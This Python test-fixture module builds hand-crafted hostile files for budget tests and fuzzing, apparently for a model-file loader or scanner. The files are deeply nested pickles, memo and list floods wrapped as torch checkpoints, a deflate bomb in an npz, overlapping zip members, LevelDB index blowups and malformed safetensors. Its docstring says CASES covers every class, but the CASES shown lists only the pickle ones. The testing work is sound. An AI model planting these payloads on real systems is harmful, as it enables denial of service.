"""Structured hostile payloads: one builder per attack class of the red-team report, each a
valid-looking file built by hand (nothing here runs a pickle or a framework).

Byte-level fuzzing mutates good files; these generators build the shapes a mutation never
reaches: nesting 200,000 deep, a million copies of one list, keys growing a byte per entry,
members overlapping one local header. ``CASES`` names every class with the file name it is
planted under and the builder; ``tests/test_budgets.py`` plants each in a tree and
``benchmarks/fuzz_campaign.py`` seeds its generators from them.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

import hostile


# -- pickles -------------------------------------------------------------------------------
def _long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def _long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def deep_tuple_key(depth: int = 200_000) -> bytes:
    """A dict whose key is a tuple nested ``depth`` deep: hashing it recurses in C."""
    return b"\x80\x02}" + b")" + b"\x85" * depth + b"Ns."


def deep_frozenset(depth: int = 200_000) -> bytes:
    """A frozenset of a tuple nested ``depth`` deep (frozenset hashes its members)."""
    return b"\x80\x04(" + b")" + b"\x85" * depth + b"\x91."


def list_copies(n: int = 1_000_000, copies: int = 2_000) -> bytes:
    """``builtins.list`` copying one ``n``-element list ``copies`` times, every copy kept."""
    out = [b"\x80\x02cbuiltins\nlist\n", _long_binput(0)]
    out += [b"(N", b"2" * (n - 1), b"l", _long_binput(1), b"0"]
    out.append(b"]")
    out += [_long_binget(0) + _long_binget(1) + b"\x85Ra"] * copies
    out.append(b".")
    return b"".join(out)


def tuple_copies(n: int = 1_000_000, copies: int = 2_000) -> bytes:
    """The same with ``builtins.tuple`` through NEWOBJ (another constructor path)."""
    out = [b"\x80\x02cbuiltins\ntuple\n", _long_binput(0)]
    out += [b"(N", b"2" * (n - 1), b"l", _long_binput(1), b"0"]
    out.append(b"]")
    out += [_long_binget(0) + _long_binget(1) + b"\x85\x81a"] * copies
    out.append(b".")
    return b"".join(out)


def memo_flood(entries: int = 4_500_000) -> bytes:
    """``entries`` empty lists each stored in the memo (31 MB for 4.5 M)."""
    return b"\x80\x02" + b"]" + _long_binput(0) + b"0" + b"".join(
        b"]" + _long_binput(i) + b"0" for i in range(1, entries)
    ) + b"N."  # fmt: skip


def as_torch(pickle_bytes: bytes) -> bytes:
    """``pickle_bytes`` as the data.pkl of a torch.save zip (a ``.pt``/``.bin``/``.ckpt``)."""
    return hostile.torch_zip(pickle_bytes)


# -- JSON ----------------------------------------------------------------------------------
def deep_json(depth: int = 100_000) -> bytes:
    """A JSON document nested ``depth`` deep: ``json.loads`` raises RecursionError."""
    return b'{"log_history": ' + b"[" * depth + b"]" * depth + b"}"


# -- TF tensor-bundle index (a LevelDB table) ------------------------------------------------
def _varint(v: int) -> bytes:
    out = b""
    while True:
        b, v = v & 0x7F, v >> 7
        out += bytes([b | (0x80 if v else 0)])
        if not v:
            return out


def _block(entries: list[tuple[int, bytes, bytes]]) -> bytes:
    """A table block: (shared, unshared key bytes, value) entries, one restart point."""
    body = b"".join(
        _varint(shared) + _varint(len(key)) + _varint(len(value)) + key + value
        for shared, key, value in entries
    )
    return body + struct.pack("<II", 0, 1)


def _crc32c(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for b in data:
        crc = _CRC[(crc ^ b) & 0xFF] ^ (crc >> 8)
    return crc ^ 0xFFFFFFFF


_CRC = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0x82F63B78 if _c & 1 else _c >> 1
    _CRC.append(_c)


def _trailer(block: bytes) -> bytes:
    """No compression, and LevelDB's masked crc32c of the block and that byte."""
    crc = _crc32c(block + b"\0")
    masked = (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF
    return b"\0" + struct.pack("<I", masked)


def _table(blocks: list[bytes], index_entries: list[tuple[bytes, int]]) -> bytes:
    """Data ``blocks`` then an index whose entries point at ``index_entries`` (key, block#)."""
    out, handles = b"", []
    for blk in blocks:
        handles.append((len(out), len(blk)))
        out += blk + _trailer(blk)
    index = _block([(0, k, _varint(handles[i][0]) + _varint(handles[i][1]))
                    for k, i in index_entries])  # fmt: skip
    index_at = len(out)
    out += index + _trailer(index)
    footer = (_varint(0) + _varint(0) + _varint(index_at) + _varint(len(index))).ljust(40, b"\0")
    return out + footer + struct.pack("<Q", 0xDB4775248B80FB57)


def tf_index_repeated_block(refs: int = 100_000, entries: int = 50_000) -> bytes:
    """``refs`` index entries all naming one data block of ``entries`` entries (5e9 visits)."""
    data = _block([(0, b"k%07d" % i, b"") for i in range(entries)])
    return _table([data], [(b"i%07d" % i, 0) for i in range(refs)])


def tf_index_growing_keys(entries: int = 300_000) -> bytes:
    """Prefix-compressed keys growing one byte per entry (key i is i+1 bytes long)."""
    data = _block([(i, b"a", b"") for i in range(entries)])
    return _table([data], [(b"z", 0)])


# -- Caffe2 minidb -------------------------------------------------------------------------
def _minidb_record(key: bytes, blob_name: bytes, tensor: bytes) -> bytes:
    value = b"\x0a" + _varint(len(blob_name)) + blob_name + b"\x12\x06Tensor"
    value += b"\x1a" + _varint(len(tensor)) + tensor
    return struct.pack("<ii", len(key), len(value)) + key + value


def minidb_many_records(n: int = 1_000_000) -> bytes:
    """``n`` tiny one-float blobs."""
    tensor = b"\x08\x01\x10\x01\x1a\x04\0\0\x80\x3f"  # dims [1], FLOAT, one float
    return b"".join(_minidb_record(b"b%d" % i, b"b%d" % i, tensor) for i in range(n))


def minidb_many_chunks(n: int = 300_000) -> bytes:
    """One blob in ``n`` chunks (``name#%i`` keys), each a one-element segment."""
    out = []
    for i in range(n):
        seg = b"\x08" + _varint(i) + b"\x10" + _varint(i + 1)
        tensor = (
            b"\x08" + _varint(n) + b"\x10\x01\x1a\x04\0\0\x80\x3f\x5a" + _varint(len(seg)) + seg
        )
        out.append(_minidb_record(b"w#%%%d" % i, b"w", tensor))
    return b"".join(out)


# -- zip / npz -----------------------------------------------------------------------------
def npz_inflating(nbytes: int = 1536 << 20) -> bytes:
    """An npz whose one deflated member inflates to ``nbytes`` (1.5 GiB from ~1.5 MB)."""
    header = hostile.npy("<f4", (nbytes // 4,), b"")
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [comp.compress(header)]
    zero = bytes(16 << 20)
    for _ in range(nbytes // len(zero)):
        parts.append(comp.compress(zero))
    parts.append(comp.flush())
    raw = b"".join(parts)
    usize = len(header) + nbytes // len(zero) * len(zero)
    crc = zlib.crc32(header)
    for _ in range(nbytes // len(zero)):
        crc = zlib.crc32(zero, crc)
    return _zip_one("w.npy", raw, usize, crc, method=8)


def _zip_one(name: str, data: bytes, usize: int, crc: int, method: int) -> bytes:
    fn = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc, len(data), usize,
                        len(fn), 0) + fn  # fmt: skip
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc,
                          len(data), usize, len(fn), 0, 0, 0, 0, 0, 0) + fn  # fmt: skip
    body = local + data
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + eocd


def zip_overlapping(members: int = 3) -> bytes:
    """A zip whose central directory lists ``members`` entries sharing one local header."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a.npy", hostile.npy("<f4", (4,), b"\0" * 16))
    data = buf.getvalue()
    cd = data.rfind(b"PK\x01\x02")
    eocd = data.rfind(b"PK\x05\x06")
    entry = data[cd:eocd]
    names = [f"{chr(ord('a') + i)}.npy".encode() for i in range(members)]
    central = b"".join(entry[:46] + n for n in names)  # same local header offset (0) each
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(central), cd, 0)
    return data[:cd] + central + tail


# -- safetensors ---------------------------------------------------------------------------
def _safetensors(header: bytes, data: bytes) -> bytes:
    pad = (-len(header)) % 8
    header += b" " * pad
    return struct.pack("<Q", len(header)) + header + data


def safetensors_duplicate_keys() -> bytes:
    """The same tensor name twice in the header (Rust's serde refuses it)."""
    t = '{{"dtype":"F32","shape":[2],"data_offsets":[{},{}]}}'
    header = '{"w":' + t.format(0, 8) + ',"w":' + t.format(8, 16) + "}"
    return _safetensors(header.encode(), bytes(16))


def safetensors_overlapping() -> bytes:
    """Two tensors sharing bytes (the reference parser requires contiguous, disjoint spans)."""
    t = '{{"dtype":"F32","shape":[4],"data_offsets":[{},{}]}}'
    header = '{"a":' + t.format(0, 16) + ',"b":' + t.format(8, 24) + "}"
    return _safetensors(header.encode(), bytes(24))


#: attack class -> (file name to plant it under, builder)
CASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pickle-deep-tuple-key": ("step_300.pt", lambda: as_torch(deep_tuple_key())),
    "pickle-deep-frozenset": ("step_300.pt", lambda: as_torch(deep_frozenset())),
    "pickle-list-copies": ("step_300.pt", lambda: as_torch(list_copies())),
    "pickle-tuple-copies": ("step_300.pt", lambda: as_torch(tuple_copies())),
    "pickle-memo-flood": ("step_300.pt", lambda: as_torch(memo_flood())),
}


def dumps(obj: object) -> bytes:
    return json.dumps(obj).encode()
